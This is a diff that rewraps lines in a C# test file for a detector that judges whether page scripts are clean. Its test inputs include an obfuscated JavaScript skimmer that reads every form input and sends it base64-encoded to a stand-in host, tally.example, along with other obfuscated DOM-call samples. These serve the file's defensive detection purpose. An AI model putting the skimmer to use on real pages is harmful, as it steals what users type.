@@ -29,12 +29,14 @@ public sealed class OpenQuestionTests
     [InlineData("function T(s) { return ['querySelectorAll', 'input', 'forEach', 'value', 'src', 'https://tally.example/px.gif?d='][s[0]] } document[T`0`](T`1`)[T`2`](function (f) { new Image()[T`4`] = T`5` + btoa(f[T`3`]) });")]
     [InlineData("var m = new Map([[0, 'querySelectorAll'], [1, 'input']]); document[m.get(0)](m.get(1)).length;")]
     [InlineData("var w = ['document', 'querySelectorAll', 'forEach', 'value', 'src'].reverse().map(function (x) { return x }); window[w.pop()][w.pop()]('input');")]
-    public void Words_out_of_tables_are_not_clean_either(string source) => Assert.NotEqual(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
+    public void Words_out_of_tables_are_not_clean_either(string source) =>
+        Assert.NotEqual(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
 
     [Theory]
     [InlineData("document.querySelector('input').addEventListener('change', function (e) { navigator.sendBeacon('https://in.form-numbers.example/v2', JSON.stringify({ len: e.target.value.length, filled: !!e.target.value })) })")]
     [InlineData("document.querySelector('input[type=password]').addEventListener('change', async function (e) { const d = new Uint8Array(await crypto.subtle.digest('SHA-1', new TextEncoder().encode(e.target.value))); const h = [...d].map(b => b.toString(16).padStart(2, '0')).join(''); const r = await fetch('https://breaches.example/range/' + h.slice(0, 5)); })")]
-    public void Lengths_and_the_first_digits_of_a_digest_are_not_what_was_typed(string source) => Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
+    public void Lengths_and_the_first_digits_of_a_digest_are_not_what_was_typed(string source) =>
+        Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
 
     [Theory]
     [InlineData("if (location.host.indexOf('tea-shop.example') < 0) return;")]
@@ -56,12 +58,16 @@ public sealed class OpenQuestionTests
     [InlineData("if (location.hostname === 'localhost') { console.log('development'); }")]
     [InlineData("var secure = location.protocol === 'https:' ? 'secure' : '';")]
     public void A_small_part_under_a_condition_leaves_the_rest_clean(string condition) =>
-        Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = $"(function () {{ {Filler} {condition} {Filler.Replace("total", "sum", StringComparison.Ordinal)} }})();" }).Verdict);
+        Assert.Equal(VerdictKind.Clean,
+            _rules.Judge(
+            new ScriptToJudge { Source = $"(function () {{ {Filler} {condition} {Filler.Replace("total", "sum", StringComparison.Ordinal)} }})();" })
+            .Verdict);
 
     [Theory]
     [InlineData("function trigger(node, type) { node.normal = 1; if (node[type]) { document[type](); } } window.trigger = trigger;")]
     [InlineData("var names = { exit: document.webkitExitFullscreen ? 'webkitExitFullscreen' : 'exitFullscreen' }; function leave() { document[names.exit](); } window.leave = leave;")]
-    public void What_libraries_call_by_an_events_name_leaves_them_clean(string source) => Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
+    public void What_libraries_call_by_an_events_name_leaves_them_clean(string source) =>
+        Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge { Source = source }).Verdict);
 
     [Fact]
     public void What_can_be_read_is_judged_by_what_it_says_under_any_condition() => Assert.Equal(VerdictKind.Clean, _rules.Judge(new ScriptToJudge
@@ -78,7 +84,8 @@ public sealed class OpenQuestionTests
         var report = new DetonationReport { Version = "test", Shops = ["a shop"], Unrun = [] };
 
         var answered = ScriptJudge.With(DetonationEvidence.After(opinions, report, script), script);
-        var left = ScriptJudge.With(DetonationEvidence.After(opinions, report with { Unrun = [new TextRange(guarded, script.Source.Length)] }, script), script);
+        var left = ScriptJudge.With(
+            DetonationEvidence.After(opinions, report with { Unrun = [new TextRange(guarded, script.Source.Length)] }, script), script);
         var hung = ScriptJudge.With(DetonationEvidence.After(opinions, report with { Incomplete = "It hung." }, script), script);
 
         Assert.Equal((VerdictKind.Clean, VerdictKind.Unknown, VerdictKind.Unknown), (answered.Verdict, left.Verdict, hung.Verdict));
